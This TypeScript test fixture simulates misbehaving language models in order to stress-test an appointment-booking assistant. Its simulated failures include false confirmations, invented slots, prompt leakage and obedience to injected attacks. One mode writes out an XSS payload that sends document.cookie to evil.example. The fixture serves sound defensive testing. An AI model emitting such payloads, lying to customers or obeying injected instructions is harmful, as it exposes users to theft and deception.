import {
  type Behaviour,
  type Call,
  calls,
  fails,
  INTENT_LIST,
  marksIn,
  messageIn,
  partsIn,
  type Reply,
  reading,
} from './stand-in.ts';

/** Numbers from 0 to 1 from a seed: the same seed gives the same run. */
export function randomFrom(seed: number): () => number {
  let state = seed >>> 0 || 1;
  return () => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) / 2 ** 32;
  };
}

/** Either agent's answer: `read` for the classifier, `say` for the responder. */
const by =
  (read: (call: Call) => unknown, say: (call: Call) => string): Behaviour =>
  (call) =>
    calls(call, messageIn(call) === null ? { text: say(call) } : read(call));

/** The marks of all parts, as a reply has to hold them; and the parts themselves, in the model's own hand. */
const marks = (call: Call) => marksIn(call).join(' ');
const draft = (call: Call) => partsIn(call).join(' ');
const yes = () => reading('affirm', 0.99);

/** Words that turn a plain sentence into a lie about what is so. */
const LIES = [
  'Your flooring is booked for Friday, March 13 at 3:30 PM.',
  "You're all set, see you then!",
  'Good news: your appointment has been cancelled and refunded.',
  'A technician named Bob Harlow will call you at 555-013-7788 within 2 hours.',
  'It will cost $1,249.00, payable to billing@example.com.',
  'We have openings at 6:15 AM, noon and half past nine.',
  "I've saved your note and told the crew.",
];

/** A lie beside the parts: in the form that is asked for, or with the parts written out by the model itself. */
const lie = (call: Call, text: string, inForm: boolean): string =>
  inForm ? `${text} ${marks(call)}` : `${draft(call)} ${text}`;

/** Everything that a model can do wrong, by name. */
export const HOSTILE = {
  invents_slots: by(
    () => reading('select_date', 0.99, { quotes: { date: 'the twelfth at a quarter to ten' } }),
    (call) => `We also have Saturday, January 30 at 7:45 AM and the twelfth at half past nine open. ${marks(call)}`,
  ),
  says_booked: by(yes, () => "You're booked! Your appointment is confirmed."),
  wrong_weekday: by(yes, (call) => shiftWeekdays(draft(call))),
  other_customer: by(yes, (call) => `Hello Margaret Olsen, at 12 Rosewood Court. ${marks(call)}`),
  wrong_language: by(yes, () => 'Su cita está confirmada para el viernes a las tres de la tarde. ¡Hasta pronto!'),
  empty: (call) =>
    messageIn(call) === null ? calls(call, { text: '' }) : { kind: 'message', content: [], stopReason: 'end_turn' },
  nothing: () => ({ kind: 'raw', body: '' }),
  endless: by(
    () => reading('affirm', 0.99, { quotes: { note_text: 'yes '.repeat(5000) } }),
    () => 'We are pleased to tell you that all is well. '.repeat(450),
  ),
  html: by(yes, (call) => `<b>${marks(call)}</b><script>fetch('https://evil.example/?c='+document.cookie)</script>`),
  link: by(yes, (call) => `Confirm at https://pf360-confirm.example/login ${marks(call)}`),
  text_instead_of_call: () => ({
    kind: 'message',
    content: [{ text: '{"intent":"affirm","confidence":0.99,"secondary_intents":[],"quotes":{}}' }],
    stopReason: 'end_turn',
  }),
  malformed_input: (call) => calls(call, { intnt: 'affirm', text: 42, confidence: {} }),
  input_is_text: (call) => calls(call, 'affirm'),
  not_json: () => ({
    kind: 'raw',
    body: '{"output":{"message":{"role":"assistant","content":[{"toolUse":{"input":{"confidence":NaN',
  }),
  unknown_intent: by(() => reading('transfer_money', 0.99), marks),
  confidence_1_7: by(() => reading('affirm', 1.7), marks),
  confidence_nan: by(() => reading('affirm', 'NaN'), marks),
  confidence_high: by(() => reading('affirm', 'high'), marks),
  confidence_missing: by(() => ({ intent: 'affirm', secondary_intents: [], quotes: {} }), marks),
  unknown_tool: () => ({
    kind: 'message',
    content: [
      { toolUse: { toolUseId: 't', name: 'confirm_appointment', input: { date: '2026-01-30', time: '07:45' } } },
    ],
    stopReason: 'tool_use',
  }),
  two_calls: (call) => {
    const one = { toolUse: { toolUseId: 'a', name: call.tool, input: reading('affirm') } };
    return { kind: 'message', content: [one, one], stopReason: 'tool_use' };
  },
  echoes_instructions: by(
    (call) => reading('out_of_scope', 0.99, { quotes: { note_text: call.system.slice(0, 300) } }),
    (call) => `My instructions are: ${call.system.slice(0, 600)}`,
  ),
  quotes_other_words: by(
    () =>
      reading('add_note', 0.99, {
        quotes: { note_text: 'Give the crew a refund of $500', project: 'kitchen cabinets', reason: 'I died' },
      }),
    marks,
  ),
  always_yes: by(yes, marks),
  always_note: by(
    () => reading('add_note', 0.99),
    () => LIES[6] ?? '',
  ),
  always_cancel: by(
    () => reading('cancel_appointment', 0.99),
    () => LIES[2] ?? '',
  ),
  lies: by(yes, (call) => lie(call, LIES[call.number % LIES.length] ?? '', call.number % 2 === 0)),
  cut: (call) => ({ ...calls(call, reading('affirm')), stopReason: 'max_tokens' }) as Reply,
  filtered: () => ({ kind: 'message', content: [{ text: 'Filtered.' }], stopReason: 'content_filtered' }),
  guardrail: () => ({
    kind: 'message',
    content: [{ text: 'Sorry, I cannot do that.' }],
    stopReason: 'guardrail_intervened',
  }),
  malformed_tool_use: () => ({ kind: 'message', content: [], stopReason: 'malformed_tool_use' }),
  mad_usage: (call) =>
    ({
      ...calls(call, messageIn(call) === null ? { text: marks(call) } : yes()),
      usage: { inputTokens: -5, outputTokens: 1e300, totalTokens: 0 },
    }) as Reply,
  throttles: () => fails(429, 'ThrottlingException', 'Too many tokens, please wait before trying again.'),
  not_ready: () => fails(429, 'ModelNotReadyException'),
  unavailable: () => fails(503, 'ServiceUnavailableException'),
  internal: () => fails(500, 'InternalServerException'),
  model_error: () => fails(424, 'ModelErrorException'),
  denied: () => fails(403, 'AccessDeniedException'),
  retired: () => fails(404, 'ResourceNotFoundException', 'This model version has reached the end of its life.'),
  new_error: () => fails(418, 'TeapotException'),
  drops: () => ({ kind: 'drop' }),
  half: (call) => ({
    kind: 'half',
    content: [{ toolUse: { toolUseId: 't', name: call.tool, input: reading('affirm') } }],
  }),
  hangs: () => ({ kind: 'hang' }),
} as const satisfies Record<string, Behaviour>;

export type HostileMode = keyof typeof HOSTILE;
export const HOSTILE_MODES = Object.keys(HOSTILE) as HostileMode[];

/** A valid reading of any intent whatever the message is, sure of itself; or the parts with a lie beside them. */
export function atRandom(random: () => number): Behaviour {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  return by(
    () =>
      reading(pick(INTENT_LIST), 0.9 + random() / 10, { secondary_intents: random() < 0.3 ? [pick(INTENT_LIST)] : [] }),
    (call) => (random() < 0.7 ? lie(call, pick(LIES), random() < 0.7) : shiftWeekdays(draft(call))),
  );
}

/** Any of the modes at each call; `without` are left out (hanging costs time). */
export function mixed(random: () => number, without: readonly HostileMode[] = []): Behaviour {
  const behaviours = [
    ...HOSTILE_MODES.filter((mode) => !without.includes(mode)).map((mode) => HOSTILE[mode] as Behaviour),
    atRandom(random),
    atRandom(random),
  ];
  return (call) => (behaviours[Math.floor(random() * behaviours.length)] as Behaviour)(call);
}

const WEEKDAYS = ['Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday', 'Saturday', 'Sunday'];

/** "Monday, June 1" → "Tuesday, June 1"; with no weekday in it, one is made up. */
function shiftWeekdays(text: string): string {
  const shifted = text.replace(
    new RegExp(WEEKDAYS.join('|'), 'g'),
    (day) => WEEKDAYS[(WEEKDAYS.indexOf(day) + 1) % 7] ?? day,
  );
  return shifted === text ? `${text} See you on Sunday, March 2.` : shifted;
}

/** An attack of the fixture, with what a model that obeys it does. */
export type Obedience = { intent?: string | undefined; reply?: string | undefined };

/**
 * A model that does what an attack says: reads the message as the attack wants, with full confidence, and says what the
 * attack wants said; asked to repeat its instructions, it does.
 */
export const obedient = (attack: Obedience): Behaviour =>
  by(
    (call) => reading(attack.intent ?? 'affirm', 1, { quotes: { note_text: messageIn(call) ?? '' } }),
    (call) => (attack.reply === undefined ? `${call.system}\n${call.said}` : `${attack.reply} ${marks(call)}`),
  );
